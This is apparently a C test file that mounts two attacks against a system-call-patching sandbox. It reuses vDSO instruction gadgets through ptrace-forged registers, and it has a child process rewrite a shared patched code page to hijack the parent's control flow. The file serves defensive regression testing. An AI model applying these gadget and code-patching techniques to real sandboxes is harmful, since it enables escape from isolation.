// SPDX-License-Identifier: GPL-2.0
/*
 * Spaces that go on to the next program with the runner of the last one still
 * running, and what forks share: the list of patched system calls.
 */
#include "attack.h"
#include <sys/ptrace.h>
#include <sys/user.h>

#define VDSO (STUB + 0x100000)		/* the host's own, somewhere from here on */
#define VDSO_END (STUB + 0x800000)
#define PLACE (AREA + 512)		/* what the store takes its values from */

/*
 * In the clock's loop of the host's vDSO: stores rdi and the word at rax + 16 to
 * rsi, looks whether the word at r10 has changed since, and begins again for as
 * long as it is odd:
 *
 *	mov %rdi,(%rsi); mov 16(%rax),%rdi; mov %rdi,8(%rsi);
 *	mov (%r10),%edi; cmp %edi,%ecx; je ...
 */
static const uint8_t store[] = {
	0x48, 0x89, 0x3e, 0x48, 0x8b, 0x78, 0x10, 0x48, 0x89, 0x7e, 0x08,
	0x41, 0x8b, 0x3a, 0x39, 0xf9, 0x0f, 0x84,
};
static const uint8_t call[] = { 0x0f, 0x05 };

static uintptr_t find(const char *vdso, size_t size, const uint8_t *code, size_t len)
{
	const char *at = memmem(vdso, size, code, len);

	return at ? VDSO + (at - vdso) : 0;
}

/* Return: its size, the vDSO copied to @copy; mincore() knows no page of it. */
static size_t read_vdso(char *copy, size_t size, size_t *offset)
{
	const char *head = NULL;

	/* Pages that are not there fault, and end a child. */
	for (uintptr_t a = VDSO; !head && a < VDSO + 64 * PAGE; a += PAGE) {
		CHILD(pid, _exit(memcmp((void *)a, "\177ELF", 4) ? 1 : 0));
		if (wait_status(pid, 10) == 0)
			head = (void *)a;
	}
	if (!head)
		test_skip("no vDSO of the host");
	*offset = (uintptr_t)head - VDSO;
	for (size_t n = 0; n < size; n += PAGE) {
		CHILD(pid, memcpy(copy + n, head + n, PAGE));
		if (wait_status(pid, 10))
			return n;
	}
	return size;
}

static struct {
	uintptr_t store, call;
} gadgets;

static void find_gadgets(void)
{
	size_t size = 16 * PAGE, offset;
	char *copy = SHARED(size);

	size = read_vdso(copy, size, &offset);
	gadgets.store = find(copy, size, store, sizeof(store));
	gadgets.call = find(copy, size, call, sizeof(call));
	if (!gadgets.store || !gadgets.call)
		test_skip("not the instructions in the host's vDSO that it takes");
	gadgets.store += offset;
	gadgets.call += offset;
}

/*
 * Unmaps all it has, from an instruction that stays, with its answer to come
 * prepared in the area: a pause().
 */
static void unmap_all(volatile uint32_t *cmd)
{
	uint64_t *regs = (void *)area()->regs;

	OK(ptrace(PTRACE_TRACEME, 0, 0, 0));
	raise(SIGSTOP);
	memset(regs, 0, sizeof(area()->regs));
	regs[10] = SYS_pause;
	regs[11] = gadgets.store;
	regs[19] = AREA + 2048;
	*(uint64_t *)(PLACE + 16) = ANSWER_CALL | 1ULL << 32;
	*cmd = 0;
	while (orders()->cmd & 1)
		syscall(SYS_getppid);
	*cmd = orders()->cmd;
	__asm__ volatile("mov %0, %%rbp\n jmp *%1" : :
			 "r"(AREA + 2048UL), "r"(gadgets.call), "a"(SYS_munmap), "D"(0), "S"(STUB)
			 : "memory");
	__builtin_unreachable();
}

/* Does the kernel take it to wait in pause()? */
static bool pauses(pid_t pid)
{
	char path[64], line[64];

	snprintf(path, sizeof(path), "/proc/%d/syscall", pid);
	return slurp(path, line, sizeof(line)) > 0 && atoi(line) == SYS_pause;
}

/* On to the next stop at a system call. Return: it was none. */
static bool no_stop(pid_t pid, struct user_regs_struct *r)
{
	int status;

	OK(ptrace(PTRACE_SYSCALL, pid, 0, 0));
	OK(waitpid(pid, &status, 0));
	if (!WIFSTOPPED(status))
		return true;
	OK(ptrace(PTRACE_GETREGS, pid, 0, r));
	return false;
}

/* Return: whether a process has died that had its space. */
static bool haunt(volatile uint32_t *cmd, int *haunts)
{
	struct user_regs_struct r;
	int status;

	CHILD(pid, warm(); unmap_all(cmd));
	OK(waitpid(pid, &status, 0));
	do {
		if (no_stop(pid, &r))
			return false;
	} while ((long)r.orig_rax != SYS_munmap || r.rip != gadgets.call + 2 ||
		 (long)r.rax == -ENOSYS);
	/*
	 * A pause() that is not carried out: that is what a kernel sees again which
	 * is quicker than the second part of the store.
	 */
	r.rip = gadgets.call;
	r.rax = SYS_pause;
	r.orig_rax = -1;
	OK(ptrace(PTRACE_SETREGS, pid, 0, &r));
	if (no_stop(pid, &r))
		return false;
	r.orig_rax = -1;
	OK(ptrace(PTRACE_SETREGS, pid, 0, &r));
	if (no_stop(pid, &r))
		return false;
	r.rip = gadgets.store;
	/* The command that lets it go on: one for the orders and one for pause() came. */
	r.rdi = *cmd + 3;
	r.rsi = AREA;
	r.rax = PLACE;
	r.rcx = -1U;
	r.r10 = ORDERS;
	r.rbp = 0x414141414140;
	r.rsp = AREA + 2048;
	r.orig_rax = -1;
	OK(ptrace(PTRACE_SETREGS, pid, 0, &r));
	OK(ptrace(PTRACE_DETACH, pid, 0, 0));
	for (int i = 0; i < 30 && !pauses(pid); i++)
		sleep_ms(1);
	*haunts += pauses(pid);
	kill(pid, SIGKILL);
	wait_status(pid, 10);
	for (int i = 0; i < 3; i++) {
		CHILD(victim, {});
		status = wait_status(victim, 10);
		if (status) {
			won("a fork that only exits ended with %#x", status);
			return true;
		}
	}
	return false;
}

ATTACK(dead_runner, 15, "noproof")
{
	volatile uint32_t *cmd = SHARED(PAGE);

	int haunts = 0;

	find_gadgets();
	/* A kick in between, and its answer is to no command. */
	for (int i = 0; i < 30 && haunts < 10; i++)
		if (haunt(cmd, &haunts))
			return;
	if (!haunts)
		test_fail(__FILE__, __LINE__, "its forged answer was never taken");
}

/*
 * A page with the end of one function, and another that stores: in a child the
 * same place has a read() before and its gap where the store is.
 */
#define SITE 0xf9

extern char gap_page[];
long gap_victim(char *p);
__asm__(".pushsection .text\n"
	".globl gap_page, gap_victim\n"
	".balign 4096\n"
	"gap_page:\n"
	"	.fill 0xf9, 1, 0x90\n"
	"	mov $1, %eax\n"
	"	ret\n"
	"gap_victim:\n"
	"	xor %eax, %eax\n"
	"	.byte 0x0f, 0x1f, 0x44, 0, 0\n"
	"	movb $1, (%rdi)\n"
	"	ret\n"
	".balign 4096\n"
	".globl gap_hot\n"
	"gap_hot:\n"
	"	mov $110, %eax\n"
	"	syscall\n"
	"	ret\n"
	".balign 4096\n"
	".popsection\n");
long gap_hot(void);

static void patch_other_text(void)
{
	static const uint8_t code[] = {
		0x31, 0xc0, 0x0f, 0x05, 0x48, 0x3d, 0, 0xf0, 0xff, 0xff, 0x77, 0x20, 0xc3,
		0x66, 0x2e, 0x0f, 0x1f, 0x84, 0, 0, 0, 0, 0,
	};
	long (*read_byte)(int, void *, size_t) = (void *)(gap_page + SITE);
	int fd = OK(memfd_create("text", 0)), zero = OK(open("/dev/null", O_RDONLY));
	char page[PAGE], c;

	memset(page, 0x90, sizeof(page));
	memcpy(page + SITE, code, sizeof(code));
	CHECK_EQ(write(fd, page, PAGE), PAGE);
	(void)MAP(gap_page, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fd, 0);
	for (int i = 0; i < 200; i++)
		CHECK_EQ(read_byte(zero, &c, 1), 0);
	_exit((uint8_t)gap_page[SITE] == 0xeb ? 0 : 3);
}

/* The child is the attacker, who shares the list of what is patched. */
ATTACK(gap_of_a_fork, 10, "nogapcheck")
{
	char *fresh = ANON(2 * PAGE);
	long parent = getppid();
	int status;

	for (int i = 0; i < 200; i++)
		CHECK_EQ(gap_hot(), parent);
	if (*(uint8_t *)gap_hot != 0xff)
		test_skip("nothing is patched");
	CHECK_EQ(gap_victim(fresh), 0);
	CHILD(pid, patch_other_text());
	status = wait_status(pid, 10);
	if (!WIFEXITED(status) || WEXITSTATUS(status))
		test_fail(__FILE__, __LINE__, "the child's call was not patched: %#x", status);
	/* It faults there. */
	if (gap_victim(fresh + PAGE) != 0)
		won("the parent was led to where a child had patched a call");
}
